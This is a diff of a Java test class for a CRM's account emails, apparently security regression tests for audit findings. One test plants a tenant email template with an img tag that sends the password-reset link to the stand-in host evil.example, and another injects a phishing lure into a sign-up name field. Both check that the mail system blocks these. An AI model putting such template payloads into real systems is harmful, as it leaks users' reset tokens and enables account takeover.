@@ -1,6 +1,7 @@
 package io.leaderforge.crm.account;
 
 import static io.leaderforge.crm.Given.CRM;
+import static org.hamcrest.Matchers.contains;
 import static org.hamcrest.Matchers.containsString;
 import static org.hamcrest.Matchers.equalTo;
 import static org.hamcrest.Matchers.not;
@@ -44,11 +45,11 @@ class AccountMailTest {
     @CsvSource({
         "sign_up, true, Finish signing up at",
         "account_exists, false, You already have an account at",
-        "email_verification, true, Confirm your e-mail address for",
+        "email_verification, true, Confirm your email address for",
         "password_reset, true, Choose another password for",
         "password_changed, false, was changed",
-        "email_change, true, Confirm your new e-mail address for",
-        "email_changed, false, Your e-mail address at",
+        "email_change, true, Confirm your new email address for",
+        "email_changed, false, Your email address at",
         "account_linked, false, was linked"
     })
     void eachLetterArrivesWithItsLinkAndTheTokenIsInTheMailAlone(String letter, boolean secret, String subject) {
@@ -110,38 +111,35 @@ class AccountMailTest {
     }
 
     @Test
-    void aTenantsOwnTextIsTakenUnlessItLosesTheLink() {
-        template("account.password_reset", "Neues Passwort, {{full_name}}", "<a href=\"{{link}}\">Hier</a> {{tenant}}");
-        template("account.sign_up", "Without a link", "There is no way from here.");
+    void finding4_aTemplateOfTheTenantNoLongerDecidesWhereTheTokenGoes() {
+        // Written before letters had words of their own; the API takes none of these categories any more.
+        UUID template = Given.template(
+                tenant, "Newsletter", "<p>Hi</p><img src=\"https://evil.example/p.gif?u={{link}}\">{{link}}");
+        Given.change("update crm.message_templates set category = 'account.password_reset' where id = ?", template);
         send("password_reset", token, "Zoë");
-        Received own = Mailbox.await1(to);
-        assertEquals("Neues Passwort, Zoë", own.subject());
-        assertTrue(own.html().contains(token), own.html());
-        assertEquals(
-                "1",
-                Given.one(
-                        "select count(*)::text from crm.messages where to_address = ? and template_id is not null",
-                        to));
-        String other = "other-" + to;
-        send("sign_up", token, "Zoë", other);
-        assertTrue(Mailbox.await1(other).subject().startsWith("Finish signing up"));
+        Received mail = Mailbox.await1(to);
+        assertTrue(mail.subject().startsWith("Choose another password"), mail.subject());
+        assertFalse(mail.source().contains("evil.example"), mail.html());
+        tenant.asOwner()
+                .body(Map.of(
+                        "name", "N", "type", "email", "category", "account.sign_up", "subject", "S", "content", "C"))
+                .post(CRM + "/message-templates")
+                .then()
+                .statusCode(422)
+                .body("errors.pointer", contains("/category"));
     }
 
-    private void template(String category, String subject, String content) {
-        Given.created(
-                tenant,
-                "/message-templates",
-                Map.of(
-                        "name",
-                        category,
-                        "type",
-                        "email",
-                        "category",
-                        category,
-                        "subject",
-                        subject,
-                        "content",
-                        content));
+    @Test
+    void finding10_aNameThatAStrangerTypedIsNoMessage() {
+        send(
+                "sign_up",
+                token,
+                "Win 1000 EUR at http://evil.example/claim or evil.example, write to me@evil.example "
+                        + "x".repeat(500));
+        Received mail = Mailbox.await1(to);
+        assertTrue(mail.text().startsWith("Hello Win 1000 EUR at or write to xxx"), mail.text());
+        assertFalse(mail.source().contains("evil"), mail.source());
+        assertTrue(mail.text().lines().findFirst().orElse("").length() < 70, mail.text());
     }
 
     private UUID send(String letter, String secret, String name) {
